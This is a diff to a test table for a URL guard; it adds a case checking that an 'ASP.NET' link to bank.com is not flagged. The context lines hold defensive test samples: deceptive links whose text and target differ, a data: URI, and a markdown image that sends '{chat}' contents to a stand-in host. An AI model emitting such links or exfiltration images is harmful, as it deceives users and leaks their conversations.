@@ -59,6 +59,7 @@ test_tricks = guard_table("urls", [
     ("data:text/html;base64,PHN2Zz4=", [("data:text/html;base64,PHN2Zz4=", "SCHEME")]),
     ("[bank.com](https://evil.org/)", [("[bank.com](https://evil.org/", "LINK_MISMATCH")]),
     ("[the bank](https://evil.org/)", []),
+    ("[ASP.NET](https://bank.com/)", []),
     ("[www.bank.com](https://bank.com/)", []),
     ("<a href='https://evil.org'>https://bank.com</a>", [("<a href='https://evil.org'>https://bank.com</a", "LINK_MISMATCH")]),
     ("![x](https://e.org/?q={chat})", [("![x](https://e.org/?q={chat}", "DATA_IN_URL")]),
